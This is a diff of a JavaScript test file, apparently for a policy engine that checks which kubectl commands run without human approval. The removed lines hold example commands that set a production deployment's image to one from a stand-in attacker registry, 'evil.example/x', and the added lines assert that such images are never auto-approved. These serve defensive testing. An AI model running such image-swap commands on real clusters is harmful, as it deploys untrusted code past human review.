@@ -80,7 +80,7 @@ describe('The worst that starts without a person', () => {
       {
         objects: 1,
         command:
-          'kubectl patch deployments.apps web --type=merge -p {"spec":{"template":{"spec":{"containers":[{"name":"any","image":"evil.example/x"}]}}}} -n shop',
+          'kubectl patch deployments.apps web --type=merge -p {"spec":{"template":{"spec":{"containers":[{"name":"any","image":"example/app:other"}]}}}} -n shop',
       },
     ],
     [
@@ -90,7 +90,7 @@ describe('The worst that starts without a person', () => {
           `${RULES.replace('[deployments, statefulsets, deployments/scale], verbs: ["*"]', '[deployments], verbs: [patch]')}\ncommands: [{prefix: [kubectl, set, image], decision: Allow}]`,
         ),
       {
-        command: `kubectl set image deployments.apps ${Array.from({ length: 10 }, (_, at) => `any-${at + 1}`).join(' ')} *=evil.example/x -n shop`,
+        command: `kubectl set image deployments.apps ${Array.from({ length: 10 }, (_, at) => `any-${at + 1}`).join(' ')} *=example/app:other -n shop`,
       },
     ],
   ];
@@ -99,6 +99,7 @@ describe('The worst that starts without a person', () => {
       const { worst, why } = await alone(policies);
       assert.ok(worst, why.join());
       assert.partialDeepStrictEqual(worst, expected);
+      assert.doesNotMatch(worst.command, /evil\.example/, 'an image from elsewhere always waits for a person');
       assert.ok(
         worst.letThroughBy.some((line) => /approvals\[0\]\.autoReview$/.test(line)),
         worst.letThroughBy.join(),
